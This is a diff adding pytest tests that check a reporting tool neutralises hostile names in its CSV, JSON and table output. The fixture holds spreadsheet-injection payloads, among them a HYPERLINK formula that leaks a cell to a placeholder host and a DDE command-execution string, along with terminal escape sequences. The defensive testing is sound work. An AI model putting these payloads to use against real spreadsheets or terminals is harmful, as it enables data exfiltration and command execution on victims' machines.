@@ -174,6 +174,55 @@ def test_contacts_as_a_table(day_db: str, capsys: pytest.CaptureFixture[str]) ->
     assert "20:00:00" in out  # A back at 04:00, with B until the end of the period
 
 
+HOSTILE = {
+    "F": '=HYPERLINK("http://x.invalid/?"&A1,"Nguyen")',
+    "P": "+1+cmd|' /C calc'!A0",
+    "M": "-2+3",
+    "T": "@SUM(1)",
+    "H": "\tTab",
+    "R": "\rCR",
+    "E": "Esc\x1b[2J\x1b]8;;http://x.invalid\x07link\x1b]8;;\x07 Bell\x07 [bold]markup[/bold]",
+}
+
+
+@pytest.fixture
+def hostile_db(tmp_path: Path) -> str:
+    db = f"sqlite:///{tmp_path}/hostile.db"
+    store = Store(db)
+    store.write(
+        [
+            record(gate_event(seq, f"{DAY}T0{seq}:00", subject=subject, name=name))
+            for seq, (subject, name) in enumerate(HOSTILE.items(), start=1)
+        ]
+    )
+    store.close()
+    return db
+
+
+def test_no_report_hands_a_spreadsheet_a_formula(
+    hostile_db: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = report(capsys, "onsite", "--db", hostile_db, "--format", "csv")
+    assert code == 0
+    names = {row["subject"]: row["name"] for row in csv.DictReader(io.StringIO(out, newline=""))}
+    assert {subject: names[subject] for subject in "FPMT"} == {
+        subject: "'" + HOSTILE[subject] for subject in "FPMT"
+    }
+    assert (names["H"], names["R"]) == ("Tab", "CR")  # control characters go
+    assert not any(ch in out for ch in "\x1b\x07\r\t")
+    code, out, _ = report(capsys, "onsite", "--db", hostile_db, "--format", "json")
+    assert {row["subject"]: row["name"] for row in json.loads(out)} == HOSTILE  # JSON escapes
+
+
+def test_no_report_table_hands_a_terminal_control_characters(
+    hostile_db: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = report(capsys, "onsite", "--db", hostile_db)
+    assert code == 0
+    assert not any(ch in out for ch in "\x1b\x07\r\t")
+    assert "[bold]markup" in out  # shown as written, not as rich markup
+
+
 @pytest.mark.parametrize(
     ("args", "code", "message"),
     [
